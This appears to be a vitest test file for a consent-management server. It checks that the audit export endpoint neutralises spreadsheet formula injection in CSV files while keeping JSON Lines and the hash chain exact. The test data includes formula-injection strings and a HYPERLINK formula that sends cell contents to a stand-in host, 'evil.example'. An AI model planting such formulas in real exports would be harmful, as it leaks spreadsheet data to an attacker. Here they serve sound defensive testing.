/**
 * DESIGN.md §10: a value a spreadsheet would run is neutralised in CSV exports only; the stored
 * entries and JSON Lines stay exact, so the chain still verifies (consent-core SPEC 4.4).
 */
import {
  AUDIT_FIELDS,
  type AuditEntry,
  auditEntriesFor,
  chainAll,
  DEFAULT_CATALOG,
  type Decision,
  decide,
  decisionsOf,
  GENESIS,
  sha256Hex,
} from '@consent-sync/consent-core'
import { describe, expect, it } from 'vitest'
import * as Y from 'yjs'
import { verifyStore } from '../audit/verify'
import { stockFor, testServer } from '../testing/per-test'
import { ADMIN, CSR_1, type TestServer } from '../testing/server'
import { until } from '../testing/until'

const FORMULAS = ['=1+2', '+1+2', '-1+2', '@SUM(1,2)', '\t=1+2', '\r=1+2']
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'

/** An agent records one phone decision per formula as evidence, through the sync endpoint. */
async function recordEvidence(s: TestServer): Promise<void> {
  const agent = stockFor(s, CSR_1)
  await agent.synced()
  for (const [i, evidence] of FORMULAS.entries()) {
    decide(
      agent.doc,
      {
        purposeId: 'marketing-sms',
        state: i % 2 === 0 ? 'granted' : 'withdrawn',
        actor: { id: CSR_1.id, role: 'csr' },
        channel: 'phone',
        noticeVersion: '1.0',
        evidence,
      },
      DEFAULT_CATALOG,
    )
  }
  await until(
    async () => (await s.ctx.store.auditChain('C-0001')).length === FORMULAS.length,
    5000,
    'evidence stored',
  )
}

/**
 * A decision whose id the customer's device chose, stored as the server would store an accepted
 * update (a real Yjs update and its derived audit entry) through the store API: validation may
 * narrow ids, the export must be safe for whatever the store holds.
 */
async function storeCustomerChosenId(s: TestServer): Promise<void> {
  const doc = new Y.Doc()
  const decision: Decision = {
    id: HYPERLINK,
    purposeId: 'marketing-email',
    state: 'granted',
    supersedes: [],
    at: '2026-11-02T10:00:00.000Z',
    actor: { id: 'C-0002', role: 'customer' },
    channel: 'web',
    noticeVersion: '1.0',
  }
  decisionsOf(doc).push([decision])
  const update = Y.encodeStateAsUpdate(doc)
  const meta = {
    receivedAt: new Date().toISOString(),
    connectionId: 'conn-formula',
    userId: 'C-0002',
    userRole: 'customer' as const,
    hash: sha256Hex(update),
  }
  const records = auditEntriesFor(
    [],
    [decision],
    { ...meta, customerId: 'C-0002', updateHash: meta.hash, user: { id: 'C-0002', role: 'customer' } },
    DEFAULT_CATALOG,
  )
  const entries = chainAll(GENESIS, records)
  await s.ctx.store.append([{ customerId: 'C-0002', update, meta, entries }])
}

/** RFC 4180 rows of cells (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') {
      row.push(cell)
      cell = ''
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += c
  }
  return rows
}

describe('GET /api/audit/export with values a spreadsheet would run', () => {
  it('neutralises them in CSV, keeps JSON Lines exact, and the chain still verifies', async () => {
    const s = await testServer()
    await recordEvidence(s)
    await storeCustomerChosenId(s)
    const token = s.token(ADMIN)

    const csv = await fetch(`${s.httpUrl}/api/audit/export?format=csv`, {
      headers: { authorization: `Bearer ${token}` },
    })
    expect(csv.status).toBe(200)
    const text = await csv.text()
    const [header, ...rows] = parseCsv(text)
    expect(header).toEqual([...AUDIT_FIELDS])
    const column = (name: (typeof AUDIT_FIELDS)[number]) => AUDIT_FIELDS.indexOf(name)
    const evidence = rows.map((r) => r[column('evidence')]).filter((e) => e !== '')
    expect(evidence.sort()).toEqual(FORMULAS.map((f) => `'${f}`).sort())
    expect(rows.map((r) => r[column('decisionId')])).toContain(`'${HYPERLINK}`)
    // Every cell a spreadsheet would run starts with the neutralising quote, and is quoted.
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/)
    for (const f of FORMULAS) expect(text).toContain(`"'${f.replaceAll('"', '""')}"`)
    expect(text).toContain(`"'${HYPERLINK.replaceAll('"', '""')}"`)
    // seq is a number, written as one.
    expect(rows.map((r) => r[column('seq')])).toContain('1')

    const jsonl = await fetch(`${s.httpUrl}/api/audit/export?format=jsonl`, {
      headers: { authorization: `Bearer ${token}` },
    })
    const exported = (await jsonl.text())
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as AuditEntry)
    const stored = [...(await s.ctx.store.auditChain('C-0001')), ...(await s.ctx.store.auditChain('C-0002'))]
    const byHash = (a: AuditEntry, b: AuditEntry) => a.hash.localeCompare(b.hash)
    expect([...exported].sort(byHash)).toEqual([...stored].sort(byHash))
    expect(stored.map((e) => e.evidence).filter((e) => e !== null)).toEqual(FORMULAS)
    expect(stored.map((e) => e.decisionId)).toContain(HYPERLINK)

    const report = await verifyStore(s.ctx.store, DEFAULT_CATALOG)
    expect(report.problems).toEqual([])
    expect(report).toMatchObject({ ok: true, customers: 2, entries: FORMULAS.length + 1 })
  })

  it('says so in the API reference', async () => {
    const s = await testServer()
    const spec = (await (await fetch(`${s.httpUrl}/docs/json`)).json()) as {
      paths: Record<string, { get?: { description?: string } }>
    }
    const description = spec.paths['/api/audit/export']?.get?.description ?? ''
    expect(description).toMatch(/`=`, `\+`, `-`, `@`, tab or carriage return/)
    expect(description).toMatch(/leading `'`/)
  })
})
